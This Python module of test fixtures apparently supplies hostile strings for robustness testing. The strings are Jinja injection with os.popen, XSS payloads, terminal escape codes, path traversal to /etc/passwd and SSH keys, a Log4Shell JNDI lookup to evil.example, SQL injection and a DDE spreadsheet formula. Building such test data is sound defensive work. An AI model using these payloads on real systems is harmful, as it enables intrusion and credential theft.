"""Texts that attack whoever handles them: template engines, browsers, terminals, file systems, encoders."""

from __future__ import annotations

JINJA = "{{ 7*7 }} {% import os %} {{ ''.__class__.__mro__[1].__subclasses__() }} {{ cycler.__init__.__globals__.os.popen('id').read() }}"
HTML = (
    "</style></title></textarea></pre><script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">"
    "<a href=\"javascript:document.title='pwned'\">link</a> [link](javascript:alert(1)) <svg/onload=alert(1)> --> ]]>"
)
TERMINAL = (
    "\x1b[31mred\x1b[2J\x1b]0;owned title\x07 \x1b]52;c;b3duZWQ=\x07 \x9b31m \u202etxet \x08\x08\x08 "
    "[bold]markup[/] [/nothing] :boom:\r overwritten"
)
PATHS = (
    "../../../../etc/passwd /etc/passwd file:///etc/passwd C:\\Windows\\win.ini ~/.ssh/id_rsa %2e%2e%2f a/../b CON nul "
    "$HOME `id` ;id| --set"
)
NUL = "before\x00after \x01\x02\x7f\x85\u2028\u2029\ufeff\ufffe\uffff"
SURROGATES = "half \ud800 other half \udfff both \U0001f4a3"
FORMAT = "%s%n%d {0} {0.__class__} ${jndi:ldap://evil.example/a} $(id) '; DROP TABLE rows; -- =cmd|' /C calc'!A0"

ALL = {
    "jinja": JINJA, "html": HTML, "terminal": TERMINAL, "paths": PATHS, "nul": NUL, "surrogates": SURROGATES, "format": FORMAT,
}

RAW_ON_A_TERMINAL = (b"\x1b", b"\x07", b"\x08", "\x9b".encode(), "\u202e".encode(), b"\x00")


def storable(text: str) -> str:
    """What must be left of a text in a file: all of it, but for halves of surrogate pairs."""
    return "".join("\ufffd" if "\ud800" <= character <= "\udfff" else character for character in text)
